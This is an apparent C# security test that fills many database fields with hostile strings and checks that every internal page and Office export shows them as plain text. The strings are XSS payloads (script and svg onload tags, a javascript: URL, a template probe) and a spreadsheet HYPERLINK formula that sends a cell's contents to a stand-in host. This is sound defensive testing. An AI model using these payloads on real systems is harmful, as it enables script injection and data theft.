using System.IO.Compression;
using System.Text;
using AngleSharp.Html.Parser;
using Microsoft.EntityFrameworkCore;
using ParIndex.App.Tests;
using ParIndex.Testing;
using ParIndex.Web.Tests.Access;

namespace ParIndex.Web.Tests.Appraisal;

/// <summary>H-34 and H-33 on the inside: what people typed stays words on every page of everybody, in the minutes, in workbooks and in letters.</summary>
public sealed class HostileWordsTests
{
    private const string Script = "<script>alert(1)</script>\"><svg onload=alert(1)>{{7*7}}", Formula = "=HYPERLINK(\"http://x/?\"&A1)";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory, BothEngines]
    public async Task Nothing_typed_inside_becomes_script_a_link_or_a_formula_anywhere(Engine engine)
    {
        await using var work = await WorkSite.StartAsync(engine);
        await using (var db = work.Open())
        {
            foreach (var unit in await db.CycleUnits.AsTracking().Where(row => row.Cycle == work.Cycle).ToListAsync(Cancel)) (unit.Name, unit.ShortName) = (new(Script + unit.Unit, Script), new(Formula, Formula));
            foreach (var name in await db.OrgNames.AsTracking().ToListAsync(Cancel)) (name.Name, name.ShortName, name.Document) = (new(Script + name.Unit, Script), new(Formula, Formula), Script);
            foreach (var entry in await db.Entries.AsTracking().Where(row => row.Cycle == work.Cycle).ToListAsync(Cancel)) (entry.Explanation, entry.NoteToAppraiser, entry.Reason) = (Script, Formula, Script);
            foreach (var document in await db.Evidence.AsTracking().Where(row => row.Cycle == work.Cycle).ToListAsync(Cancel)) (document.Number, document.Title, document.Issuer) = (Formula, Script, Script);
            foreach (var question in await db.Explanations.AsTracking().ToListAsync(Cancel)) (question.Question, question.Answer) = (Script, null);
            foreach (var claim in await db.Complaints.AsTracking().ToListAsync(Cancel)) claim.Words = Script;
            foreach (var follow in await db.FollowUps.AsTracking().ToListAsync(Cancel)) (follow.What, follow.Document, follow.Who, follow.Proof) = (Script, "javascript:alert(1)", Formula, Script);
            foreach (var meeting in await db.Meetings.AsTracking().ToListAsync(Cancel)) meeting.Title = Script;
            foreach (var one in await db.Cases.AsTracking().ToListAsync(Cancel)) one.Words = Script;
            foreach (var account in await db.Users.AsTracking().ToListAsync(Cancel)) account.Post = Script;
            await db.SaveChangesAsync(Cancel);
        }

        var pages = Endpoints.Of(work.Site).Where(route => route.Method == "GET" && route.Pattern.StartsWith("/noi-bo", StringComparison.Ordinal)).Select(route => Endpoints.Fill(route.Pattern)).ToList();
        var (shown, opened) = (0, 0);
        foreach (var login in new[] { "97-", "98-", "03-", "05-", "06-", "08-", "13-", "14-" })
        {
            using var client = await work.AsAsync(login);
            foreach (var address in pages.SelectMany(page => new[] { page, page + "?handler=Minutes", page + "?handler=Template", page + $"?dv={WorkSite.Own}" }))
            {
                using var answer = await client.GetAsync(new Uri(address, UriKind.Relative), Cancel);
                Assert.True((int)answer.StatusCode < 500, $"{address}: {(int)answer.StatusCode}");
                var type = answer.Content.Headers.ContentType?.MediaType;
                if (type?.Contains("officedocument", StringComparison.Ordinal) == true)
                {
                    opened++;
                    HasNothingThatRuns(await answer.Content.ReadAsByteArrayAsync(Cancel), address);
                }

                if (type != "text/html") continue;
                Assert.DoesNotContain("unsafe", answer.Headers.GetValues("Content-Security-Policy").Single(), StringComparison.Ordinal);
                var page = await new HtmlParser().ParseDocumentAsync(await answer.Content.ReadAsStringAsync(Cancel), Cancel);
                Assert.Empty(page.QuerySelectorAll("script:not([src]), [onload], [onerror], style"));
                foreach (var element in page.All)
                    foreach (var link in new[] { "href", "src", "action", "formaction" })
                        Assert.False(element.GetAttribute(link)?.Trim().StartsWith("javascript:", StringComparison.OrdinalIgnoreCase) ?? false, $"{address}: {element.OuterHtml}");
                Assert.DoesNotContain("49", page.QuerySelector("h1")?.TextContent ?? "", StringComparison.Ordinal);
                if (page.Body!.TextContent.Contains("<script>alert(1)</script>", StringComparison.Ordinal)) shown++;
            }
        }

        // They were shown, as words: the test would be empty otherwise.
        Assert.True(shown > 30 && opened > 3, $"{shown} pages, {opened} documents");
    }

    private static void HasNothingThatRuns(byte[] document, string address)
    {
        using var zip = new ZipArchive(new MemoryStream(document));
        foreach (var part in zip.Entries.Where(part => part.FullName.EndsWith(".xml", StringComparison.Ordinal) || part.FullName.EndsWith(".rels", StringComparison.Ordinal)))
        {
            using var reader = new StreamReader(part.Open(), Encoding.UTF8);
            var xml = reader.ReadToEnd();
            Assert.False(xml.Contains("<script>alert", StringComparison.Ordinal) || xml.Contains("<f>", StringComparison.Ordinal) || xml.Contains("<x:f>", StringComparison.Ordinal), $"{address}: {part.FullName}");
            Assert.False(part.FullName.EndsWith(".rels", StringComparison.Ordinal) && xml.Contains("TargetMode=\"External\"", StringComparison.Ordinal), $"{address}: {part.FullName}");
        }
    }
}
